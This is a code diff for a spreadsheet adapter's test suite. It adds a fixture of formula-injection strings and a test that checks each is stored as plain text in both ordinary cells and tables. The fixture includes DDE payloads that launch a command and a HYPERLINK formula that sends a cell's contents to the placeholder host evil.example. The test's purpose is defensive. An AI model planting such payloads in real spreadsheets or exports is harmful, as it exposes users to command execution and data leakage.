@@ -66,6 +66,38 @@ export const SALES: UserSheetFixture = {
   tables: [{ name: "SalesTable", range: "A1:D3" }],
 };
 
+/**
+ * Customer ids and names as hostile data has them: each would run as a formula, a DDE command or a
+ * hyperlink if a spreadsheet took it for typed input (OWASP's CSV-injection list: =, +, -, @, tab, CR).
+ */
+export const HOSTILE_TEXTS = [
+  "=1+1",
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+  "+86 138 0013 8000",
+  "-2+3",
+  "-",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+  "\tplain",
+] as const;
+
+/** A generated sheet with the hostile texts in a table (ids) and in plain cells beside it (names). */
+export function hostileTextModel(): SheetModel {
+  return {
+    kind: "hostile",
+    name: "Hostile",
+    blocks: [
+      {
+        at: { row: 1, col: 1 },
+        rows: [["Customer ID", "Name"], ...HOSTILE_TEXTS.map((t) => [t, t])],
+        table: { name: "LL_Hostile_Customers" },
+      },
+    ],
+  };
+}
+
 export const STANDARD: WorkbookFixture = {
   sheets: [ORDERS, SALES],
   names: { SalesTotal: "Sales!$D$4" },
@@ -271,6 +303,25 @@ export function describeWorkbookContract(adapter: string, h: ContractHarness): v
           expect(cell.formula).toBeUndefined();
           expect(cell.numberFormat).toBe("@");
         }
+      });
+
+      it("writes ids and names that start with =, +, -, @, tab or CR as text, in plain cells and in tables", async () => {
+        let wb = await h.create(STANDARD);
+        await wb.writeSheet(hostileTextModel());
+        wb = await h.reopen(wb);
+        for (const [i, text] of HOSTILE_TEXTS.entries()) {
+          for (const column of ["A", "B"]) {
+            const cell = await h.inspect(wb, "LL Hostile", `${column}${2 + i}`);
+            expect({ text, value: cell.value, formula: cell.formula, format: cell.numberFormat }).toEqual({
+              text,
+              value: text,
+              formula: undefined,
+              format: "@",
+            });
+          }
+        }
+        const table = await wb.readTable({ table: "LL_Hostile_Customers" });
+        expect(table.columns[0]).toEqual([...HOSTILE_TEXTS]);
       });
 
       it("replaces a generated sheet in place: same tab position, old content gone", async () => {
